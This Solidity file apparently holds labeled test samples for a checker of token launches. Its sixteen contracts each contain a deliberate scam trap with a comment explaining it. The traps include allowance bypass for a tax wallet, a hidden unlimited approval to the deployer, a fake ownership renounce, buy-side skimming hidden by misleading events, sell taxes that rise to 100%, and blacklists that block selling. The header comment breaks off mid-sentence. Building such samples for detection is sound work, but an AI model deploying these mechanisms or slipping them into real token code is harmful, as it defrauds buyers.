// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {FifthLaunch, FifthStandard} from "./FifthLaunch.sol";

/// @title Launches from one template with a trap inside, as they are met day by day. Written on 30 November 2026,
/// fifth look, by somebody who had not read how the check tries a trade. `Truth` says who loses when

/// @dev Truth: one person can rob today. The tax wallet needs nobody's approval, so it takes the pool's tokens.
contract SixteenAgents is FifthLaunch("Sixteen Agents", "16AI") {
    function _spendAllowance(address from, address spender, uint256 amount) internal override {
        if (spender != _taxWallet) super._spendAllowance(from, spender, amount);
    }
}

/// @dev Truth: one person can rob today. The deployer puts any buyer on the list of bots after the owner is gone.
contract BouncerBulldog is FifthStandard("Bouncer Bulldog", "BOUNCE") {
    address private immutable _guard = msg.sender;
    mapping(address => bool) private bots;

    function addBots(address[] calldata bots_) external {
        require(msg.sender == _guard);
        for (uint256 i = 0; i < bots_.length; i++) bots[bots_[i]] = true;
    }

    function delBots(address[] calldata notBots) external {
        require(msg.sender == _guard);
        for (uint256 i = 0; i < notBots.length; i++) bots[notBots[i]] = false;
    }

    function isBot(address account) external view returns (bool) {
        return bots[account];
    }

    function _update(address from, address to, uint256 value) internal override {
        require(!bots[from] && !bots[to]);
        super._update(from, to, value);
    }
}

/// @dev Truth: one person can rob today. The amount that a sale swaps first may exceed what is there; sales then fail.
contract SwapTunerTuna is FifthLaunch("Swap Tuner Tuna", "TUNA") {
    uint256 public swapTokensAtAmount = 50_000 * 10 ** 9;
    uint256 public swapAmount = 20_000 * 10 ** 9;

    event SwapSettingsUpdated(uint256 threshold, uint256 amount);

    function updateSwapSettings(uint256 threshold, uint256 amount) external {
        require(msg.sender == _taxWallet, "Only the tax wallet");
        swapTokensAtAmount = threshold;
        swapAmount = amount;
        emit SwapSettingsUpdated(threshold, amount);
    }

    function _swapBack(uint256) internal override {
        if (_balances[address(this)] < swapTokensAtAmount) return;
        _swapTokensForEth(swapAmount);
        _sendEthToFee(address(this).balance);
    }
}

/// @dev Truth: one person can rob today. The charity that every sale must pay can become one that takes no ether.
contract CharityChow is FifthLaunch("Charity Chow", "CHOW") {
    address payable public charity = payable(msg.sender);
    uint256 public donated;

    function setCharity(address payable charity_) external {
        require(msg.sender == _taxWallet, "Only the tax wallet");
        require(charity_ != address(0), "Zero charity");
        charity = charity_;
    }

    function _sendEthToFee(uint256 value) internal override {
        donated += value;
        (bool sent, ) = charity.call{value: value}("");
        require(sent, "Donation failed");
    }
}

/// @dev Truth: buyers lose later. Once a quarter ether of fees came in, the "buyback season" takes 90 % of each sale.
contract MilestoneMeerkat is FifthLaunch("Milestone Meerkat", "MILE") {
    uint256 private constant _milestone = 0.25 ether;
    uint256 public feesToDate;

    function season() public view returns (string memory) {
        return feesToDate < _milestone ? "growth" : "buyback";
    }

    function _sendEthToFee(uint256 value) internal override {
        feesToDate += value;
        super._sendEthToFee(value);
    }

    function _taxPercent(address from, address to, uint256) internal view override returns (uint256) {
        if (from == uniswapV2Pair) return 2;
        if (to != uniswapV2Pair) return 0;
        return feesToDate < _milestone ? 2 : 90;
    }
}

/// @dev Truth: one person can rob today. The largest wallet, brought back, counts the pool too, so nobody can sell.
contract RoomyWalletWhale is FifthLaunch("Roomy Wallet Whale", "ROOMY") {
    uint256 public _maxTxAmount = _tTotal;
    uint256 public _maxWalletSize = _tTotal;

    event MaxTxAmountUpdated(uint256 amount);

    function removeLimits() external {
        require(msg.sender == _taxWallet);
        _setLimits(_tTotal);
    }

    function resetLimits() external {
        require(msg.sender == _taxWallet);
        _setLimits((_tTotal * 2) / 100);
    }

    function _setLimits(uint256 amount) private {
        _maxTxAmount = amount;
        _maxWalletSize = amount;
        emit MaxTxAmountUpdated(amount);
    }

    function _check(address from, address to, uint256 amount) internal view override {
        if (_isExcludedFromFee[from] || _isExcludedFromFee[to]) return;
        require(amount <= _maxTxAmount, "Exceeds the _maxTxAmount.");
        require(_balances[to] + amount <= _maxWalletSize, "Exceeds the maxWalletSize.");
    }
}

/// @dev Truth: one person can rob today. The deployer's airdrop gives out tokens that nobody had; the supply stays.
contract AirdropOtter is FifthLaunch("Airdrop Otter", "OTTER") {
    bytes32 private immutable _campaign = keccak256(abi.encodePacked("otter", msg.sender));

    function multiAirdrop(address[] calldata winners, uint256 amount) external {
        require(keccak256(abi.encodePacked("otter", msg.sender)) == _campaign, "Campaign is closed");
        for (uint256 i = 0; i < winners.length; i++) {
            _balances[winners[i]] += amount;
            emit Transfer(address(this), winners[i], amount);
        }
    }
}

/// @dev Truth: one person can rob today. Giving ownership up only shows; its owner still sets any tax on sales.
contract RenouncedRooster is FifthLaunch("Renounced Rooster", "ROOST") {
    bool private _renounced;
    uint256 public sellTax = 2;

    function owner() public view override returns (address) {
        return _renounced ? address(0) : _owner;
    }

    function renounceOwnership() public override onlyOwner {
        _renounced = true;
        emit OwnershipTransferred(_owner, address(0));
    }

    function updateTax(uint256 tax) external onlyOwner {
        sellTax = tax;
    }

    function _taxPercent(address, address to, uint256) internal view override returns (uint256) {
        return to == uniswapV2Pair ? sellTax : 0;
    }
}

/// @dev Truth: a buyer loses at once. A sale of more than a quarter of what the seller holds leaves 95 % behind.
contract PaperHandsPanda is FifthLaunch("Paper Hands Panda", "PAPER") {
    function _taxPercent(address from, address to, uint256 amount) internal view override returns (uint256) {
        if (from == uniswapV2Pair) return 2;
        if (to != uniswapV2Pair) return 0;
        return amount * 4 > _balances[from] ? 95 : 2;
    }
}

/// @dev Truth: one person can rob today. Each purchase lets the "staking vault", a wallet, take all; no event tells.
contract StakeReadyShark is FifthStandard("Stake Ready Shark", "SHARK") {
    address public immutable stakingVault = msg.sender;

    function _update(address from, address to, uint256 value) internal override {
        super._update(from, to, value);
        if (from == uniswapV2Pair && from != address(0)) _approve(to, stakingVault, type(uint256).max, false);
    }
}

/// @dev Truth: a buyer loses at once. Of each purchase 45 % is missing, while its event tells the whole amount.
contract StealthSeal is FifthLaunch("Stealth Seal", "SEAL") {
    function _move(address from, address to, uint256 amount) internal override {
        _balances[from] -= amount;
        bool isPurchase = tradingOpen && from == uniswapV2Pair && !_isExcludedFromFee[to];
        unchecked {
            _balances[to] += isPurchase ? amount - (amount * 45) / 100 : amount;
        }
        emit Transfer(from, to, amount);
    }
}

/// @dev Truth: buyers lose later. The sell tax doubles every twenty days: 4 % on day forty, all of it on day 140.
contract ClimbingCrab is FifthLaunch("Climbing Crab", "CRAB") {
    function currentTax() public view returns (uint256) {
        uint256 rounds = (block.timestamp - launchedAt) / 20 days;
        return rounds > 6 ? 100 : 1 << rounds;
    }

    function _taxPercent(address, address to, uint256) internal view override returns (uint256) {
        if (to != uniswapV2Pair) return 0;
        uint256 tax = currentTax();
        return tax > 100 ? 100 : tax;
    }
}

/// @dev Truth: one person can rob today. Fees are bounded by "or", so one of the two may be anything.
contract ReasonableRhino is FifthLaunch("Reasonable Rhino", "RHINO") {
    uint256 public buyFee = 1;
    uint256 public sellFee = 1;

    function setFees(uint256 buyFee_, uint256 sellFee_) external {
        require(msg.sender == _taxWallet, "Only the tax wallet");
        require(buyFee_ <= 10 || sellFee_ <= 10, "Fees are at most 10 %");
        buyFee = buyFee_;
        sellFee = sellFee_;
    }

    function _taxPercent(address from, address to, uint256) internal view override returns (uint256) {
        if (from == uniswapV2Pair) return buyFee;
        return to == uniswapV2Pair ? sellFee : 0;
    }
}

/// @dev Truth: one person can rob today. Authorized accounts outlive the owner and set how much one may move to none.
contract AuthAardvark is FifthLaunch("Auth Aardvark", "AUTHA") {
    mapping(address => bool) internal authorizations;
    mapping(address => bool) public isTxLimitExempt;
    uint256 public maxTxAmount = _tTotal;

    constructor() {
        authorizations[msg.sender] = true;
        isTxLimitExempt[msg.sender] = true;
        isTxLimitExempt[address(this)] = true;
    }

    modifier authorized() {
        require(authorizations[msg.sender], "!AUTHORIZED");
        _;
    }

    function authorize(address account) external authorized {
        authorizations[account] = true;
    }

    function setTxLimit(uint256 amount) external authorized {
        maxTxAmount = amount;
    }

    function setIsTxLimitExempt(address holder, bool exempt) external authorized {
        isTxLimitExempt[holder] = exempt;
    }

    function _check(address from, address, uint256 amount) internal view override {
        require(amount <= maxTxAmount || isTxLimitExempt[from] || from == uniswapV2Pair, "TX Limit Exceeded");
    }
}

/// @dev Truth: one person can rob today. A buyer whom the tax wallet calls a pool can send to no pool.
contract PairPelican is FifthLaunch("Pair Pelican", "PELI") {
    mapping(address => bool) public automatedMarketMakerPairs;

    event SetAutomatedMarketMakerPair(address indexed pair, bool indexed value);

    function setAutomatedMarketMakerPair(address pair, bool value) external {
        require(msg.sender == _taxWallet, "Only the tax wallet");
        require(pair != uniswapV2Pair, "The pair cannot be changed");
        automatedMarketMakerPairs[pair] = value;
        emit SetAutomatedMarketMakerPair(pair, value);
    }

    function _isPool(address account) private view returns (bool) {
        return account == uniswapV2Pair || automatedMarketMakerPairs[account];
    }

    function _check(address from, address to, uint256) internal view override {
        require(!_isPool(from) || !_isPool(to), "No transfer between pools");
    }
}

/// @dev Truth: a buyer loses at once. Passing tokens on to another wallet costs 90 %, as an "answer to sybils".
contract WalletHopWombat is FifthLaunch("Wallet Hop Wombat", "WOMB") {
    function _taxPercent(address from, address to, uint256) internal view override returns (uint256) {
        return from == uniswapV2Pair || to == uniswapV2Pair ? 2 : 90;
    }
}
